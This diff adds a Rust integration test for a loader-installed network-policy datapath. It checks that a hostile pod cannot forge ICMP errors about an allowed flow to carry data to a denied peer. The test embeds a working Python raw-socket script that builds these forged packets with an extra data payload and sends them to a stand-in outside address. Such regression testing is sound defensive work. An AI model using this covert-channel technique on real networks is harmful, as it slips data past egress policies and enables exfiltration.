@@ -1,0 +1,196 @@
+//! A hostile pod against the loader-installed datapath, end to end with real packets crafted
+//! on raw sockets in the test's own network namespaces (issue 17): a pod allowed to talk to
+//! one peer forges ICMP errors about that live flow to carry its own data elsewhere.
+
+use std::net::IpAddr;
+use std::process::Stdio;
+
+use policyc_testsuite::loader::Loader;
+use policyc_testsuite::netns::{run, Topology};
+use policyc_testsuite::{loader_binary, workspace};
+
+fn addr(text: &str) -> IpAddr {
+    text.parse().unwrap_or_else(|e| panic!("{text}: {e}"))
+}
+
+/// Connects to `api:port` (a live, allowed flow), then sends one ICMP port-unreachable from
+/// the pod's own address to `target`, quoting that flow's reply (api:port → pod:sport) and
+/// carrying `extra` bytes of its own; prints the local port.
+const FORGE_ICMP_ERROR: &str = r#"
+import socket, struct, sys
+pod, api, port, target, extra = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
+def csum(data):
+    if len(data) % 2: data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while s >> 16: s = (s & 0xffff) + (s >> 16)
+    return (~s) & 0xffff
+def ipv4(src, dst, proto, payload):
+    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x1234, 0, 64, proto, 0,
+                    socket.inet_aton(src), socket.inet_aton(dst))
+    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload
+flow = socket.create_connection((api, port), timeout=2)
+sport = flow.getsockname()[1]
+quoted_tcp = struct.pack("!HHIIBBHHH", port, sport, 1, 1, 0x50, 0x12, 65535, 0, 0)
+quoted = ipv4(api, pod, 6, quoted_tcp + b"\x07" * extra)
+icmp = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
+icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+raw.sendto(ipv4(pod, target, 1, icmp), (target, 0))
+print(sport, flush=True)
+flow.close()
+"#;
+
+/// Counts ICMP destination-unreachable packets from `src` of at least `min_len` bytes that
+/// arrive within `seconds`; prints the count.
+const COUNT_ICMP_ERRORS: &str = r#"
+import socket, sys, time
+src, min_len, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+s.settimeout(0.1)
+print("ready", flush=True)
+count, deadline = 0, time.time() + seconds
+while time.time() < deadline:
+    try:
+        data, (peer, _) = s.recvfrom(65535)
+    except socket.timeout:
+        continue
+    ihl = (data[0] & 0xf) * 4
+    if peer == src and data[ihl] == 3 and len(data) >= min_len:
+        count += 1
+print(count, flush=True)
+"#;
+
+/// Starts the counter in `short`'s namespace and returns it once it listens.
+fn counter(topology: &Topology, short: &str, src: IpAddr, min_len: usize) -> std::process::Child {
+    use std::io::{BufRead, BufReader};
+    let mut child = topology
+        .in_endpoint(short, "python3")
+        .args([
+            "-c",
+            COUNT_ICMP_ERRORS,
+            &src.to_string(),
+            &min_len.to_string(),
+            "1.5",
+        ])
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap_or_else(|e| panic!("python3: {e}"));
+    let stdout = child.stdout.take().unwrap_or_else(|| panic!("stdout"));
+    let mut reader = BufReader::new(stdout);
+    let mut line = String::new();
+    reader
+        .read_line(&mut line)
+        .unwrap_or_else(|e| panic!("counter: {e}"));
+    assert_eq!(line.trim(), "ready", "the counter did not start");
+    child.stdout = Some(reader.into_inner());
+    child
+}
+
+fn count(child: std::process::Child) -> usize {
+    let out = child
+        .wait_with_output()
+        .unwrap_or_else(|e| panic!("counter: {e}"));
+    let text = String::from_utf8_lossy(&out.stdout);
+    text.trim()
+        .parse()
+        .unwrap_or_else(|e| panic!("counter printed {text:?}: {e}"))
+}
+
+/// Forges one error from the storefront quoting its live flow to api:8080, sent to `target`.
+fn forge(topology: &Topology, target: IpAddr, extra: usize) {
+    let out = topology
+        .in_endpoint("front", "python3")
+        .args([
+            "-c",
+            FORGE_ICMP_ERROR,
+            "198.18.1.10",
+            "198.18.1.20",
+            "8080",
+            &target.to_string(),
+            &extra.to_string(),
+        ])
+        .output()
+        .unwrap_or_else(|e| panic!("python3: {e}"));
+    assert!(
+        out.status.success(),
+        "forging failed: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+#[test]
+fn a_forged_icmp_error_cannot_carry_data_to_a_peer_the_policy_denies() {
+    assert!(
+        run("id", &["-u"]).is_ok_and(|u| u.trim() == "0"),
+        "the hostile-pod tests need root (network namespaces, raw sockets, bpffs)"
+    );
+    let mut topology = Topology::create(&[
+        ("front", vec![addr("198.18.1.10")]),
+        ("api", vec![addr("198.18.1.20")]),
+        ("out", vec![addr("198.19.7.7")]),
+    ])
+    .unwrap_or_else(|e| panic!("creating the topology: {e}"));
+    topology
+        .serve("api", &[8080], &[])
+        .unwrap_or_else(|e| panic!("{e}"));
+    let work = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let inventory = std::fs::read_to_string(workspace().join("policy-examples/inventory.yaml"))
+        .unwrap_or_else(|e| panic!("{e}"))
+        .replace(
+            "interface: pc-frontend\n",
+            &format!("interface: {}\n", topology.endpoint("front").interface),
+        )
+        .replace(
+            "interface: pc-api\n",
+            &format!("interface: {}\n", topology.endpoint("api").interface),
+        );
+    let inventory_path = work.path().join("inventory.yaml");
+    std::fs::write(&inventory_path, inventory).unwrap_or_else(|e| panic!("{e}"));
+    let artifact = work.path().join("artifact");
+    policyc_testsuite::build_artifact(
+        &inventory_path,
+        vec![workspace().join("policy-examples/policies")],
+        &artifact,
+        None,
+    );
+    let loader = Loader::on_private_bpffs(loader_binary(), &topology, work.path());
+    loader.ok(&[
+        "apply",
+        &artifact.to_string_lossy(),
+        "--l7-fallback=allow-l4",
+        "--endpoint",
+        "shop/frontend",
+        "--endpoint",
+        "shop/api",
+    ]);
+    let front = addr("198.18.1.10");
+    let (api, world) = (addr("198.18.1.20"), addr("198.19.7.7"));
+
+    // Control: a real-sized error about the flow, to the flow's own peer, is related and
+    // arrives (so the counter and the forging work).
+    let at_api = counter(&topology, "api", front, 0);
+    forge(&topology, api, 64);
+    assert_eq!(
+        count(at_api),
+        1,
+        "an error to the flow's own peer must arrive"
+    );
+
+    // The attack: the same live flow, the error sent to the world (denied to the storefront),
+    // carrying 1,200 bytes of the pod's own data.
+    let at_world = counter(&topology, "out", front, 1000);
+    forge(&topology, world, 1200);
+    assert_eq!(
+        count(at_world),
+        0,
+        "a forged ICMP error rode the storefront's flow to api to a peer its policy denies"
+    );
+    // Nor a small one: the world is not the flow's peer.
+    let at_world = counter(&topology, "out", front, 0);
+    forge(&topology, world, 64);
+    assert_eq!(
+        count(at_world),
+        0,
+        "an error to a third address is not related"
+    );
+}
